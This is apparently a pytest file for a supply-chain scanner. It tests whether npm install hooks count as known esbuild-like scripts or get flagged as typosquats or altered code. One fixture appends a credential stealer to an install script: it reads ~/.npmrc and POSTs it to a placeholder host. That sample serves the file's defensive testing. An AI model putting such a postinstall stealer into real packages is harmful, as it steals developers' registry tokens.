"""Known install hooks (data/known_hooks.toml): recognised by name, command and code shape; typosquats and
changed scripts are not. Fixture scripts are written here in the shape of esbuild 0.25's install.js (a version
check of the platform binary through child_process, else a download of the platform package); no third-party
file is copied."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from shipwarden.deps.known import known_hooks
from shipwarden.deps.scan import scan_deps
from shipwarden.packaging.gate import GateOptions, run_gate

ESBUILD_LIKE = """\
const fs = require("fs");
const path = require("path");
const https = require("https");
const child_process = require("child_process");
const versionFromPackageJSON = require(path.join(__dirname, "package.json")).version;
function validateBinaryVersion(binaryPath) {
  const stdout = child_process.execFileSync(binaryPath, ["--version"]).toString().trim();
  if (stdout !== versionFromPackageJSON) throw new Error("Expected " + versionFromPackageJSON);
}
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const chunks = [];
      res.on("data", (chunk) => chunks.push(chunk)).on("end", () => resolve(Buffer.concat(chunks)));
    }).on("error", reject);
  });
}
validateBinaryVersion(path.join(__dirname, "bin", "esbuild"));
"""

STEALER = ESBUILD_LIKE + """\
const os = require("os");
const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
https.request({ hostname: "collect.example.invalid", method: "POST" }).end(npmrc);
"""


def package(root: Path, name: str, command: str, script: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "package.json").write_text(json.dumps({
        "name": name, "version": "0.25.0", "files": ["install.js"], "scripts": {"postinstall": command},
    }))
    (root / "install.js").write_text(script)
    return root


def install_findings(root: Path) -> list[tuple[str, str]]:
    result = run_gate(GateOptions(root, packlist="builtin"))
    return [(f.tier.value, f.message) for f in result.report.findings if f.rule_id == "gate-install-script"]


def test_table_entries_are_well_formed() -> None:
    entries = known_hooks()
    assert {"esbuild", "sharp", "@swc/core", "prisma", "puppeteer"} <= {k.name for k in entries}
    for k in entries:
        assert k.command or k.command_pattern is not None
        assert all(len(d) == 64 for d in k.sha256)
    # the s1ngularity carrier and protestware are never "known"
    assert not {"nx", "es5-ext"} & {k.name for k in entries}


def test_gate_known_binary_installer_is_p2(tmp_path: Path) -> None:
    ((tier, message),) = install_findings(package(tmp_path / "esbuild", "esbuild", "node install.js", ESBUILD_LIKE))
    assert tier == "P2"
    assert "known: checks that the platform package's esbuild binary works" in message
    assert "same command and shape" in message  # not one of the reviewed versions' exact content


@pytest.mark.parametrize("name", ["esbuild-linux-x64-helper", "esbuilld", "@esbuild/install"])
def test_gate_typosquat_is_not_known(tmp_path: Path, name: str) -> None:
    ((tier, message),) = install_findings(package(tmp_path / "pkg", name, "node install.js", ESBUILD_LIKE))
    assert tier == "P1"
    assert "known" not in message


def test_gate_changed_code_is_not_known(tmp_path: Path) -> None:
    ((tier, message),) = install_findings(package(tmp_path / "esbuild", "esbuild", "node install.js", STEALER))
    assert tier == "P1"
    assert "not the known hook" in message and "code differs" in message


def test_gate_changed_command_is_not_known(tmp_path: Path) -> None:
    ((tier, message),) = install_findings(
        package(tmp_path / "esbuild", "esbuild", "node install.js && node telemetry.js", ESBUILD_LIKE))
    assert tier == "P1"
    assert "command differs from the known one" in message


def test_gate_does_not_report_prepare_of_a_registry_package(tmp_path: Path) -> None:
    root = tmp_path / "lib"
    root.mkdir()
    (root / "package.json").write_text(json.dumps({"name": "lib", "version": "1.0.0", "files": ["index.js"],
                                                   "scripts": {"prepare": "tsc -p ."}}))
    (root / "index.js").write_text("module.exports = 1\n")
    result = run_gate(GateOptions(root, packlist="builtin"))
    assert not [f for f in result.report.findings if f.rule_id == "gate-install-script"]
    assert any("`prepare` is not reported" in n for n in result.notes)


def test_deps_labels_known_hooks_and_notes_impostors(tmp_path: Path) -> None:
    nm = tmp_path / "app" / "node_modules"
    package(nm / "esbuild", "esbuild", "node install.js", ESBUILD_LIKE)
    package(nm / "esbuilld", "esbuilld", "node install.js", ESBUILD_LIKE)
    evil = package(nm / "@swc" / "core", "@swc/core", "node install.js", ESBUILD_LIKE)
    (evil / "package.json").write_text(json.dumps({"name": "@swc/core", "version": "1.16.22",
                                                   "scripts": {"postinstall": "node install.js"}}))
    result = scan_deps(tmp_path / "app")
    by_name = {r.hook.package: r.hook for r in result.hooks}
    assert by_name["esbuild"].known.startswith("checks that the platform package's esbuild binary works")
    assert by_name["esbuilld"].known == "" and not by_name["esbuilld"].notes
    assert by_name["@swc/core"].known == ""
    assert any("command differs from the known one" in n for n in by_name["@swc/core"].notes)


def test_gate_says_what_the_secret_scan_did_not_read(tmp_path: Path) -> None:
    from shipwarden.packaging.policy import GatePolicy
    from shipwarden.packaging.verdict import render_verdict

    root = tmp_path / "big"
    root.mkdir()
    (root / "package.json").write_text(json.dumps({"name": "big", "version": "1.0.0", "files": ["dist"]}))
    (root / "dist").mkdir()
    (root / "dist" / "bundle.js").write_text("var a = 1;\n" * 4000)  # 44,000 bytes
    result = run_gate(GateOptions(root, packlist="builtin", policy=GatePolicy(secret_scan_budget=16 * 1024)))
    (cov,) = result.report.coverage
    assert cov.subject == "secrets" and cov.unit == "bytes"
    assert cov.unknown > 0 and cov.total >= cov.unknown
    assert 'secret-scan-budget = "1 MiB" in the [tool.shipwarden.gate] table of pyproject.toml' in cov.resolve
    text = render_verdict(result, result.report.findings, "P1", width=60)
    # wrapped, never cut: the setting is there in full
    assert "secret-scan-budget" in text and "[tool.shipwarden.gate]" in text and "…" not in text
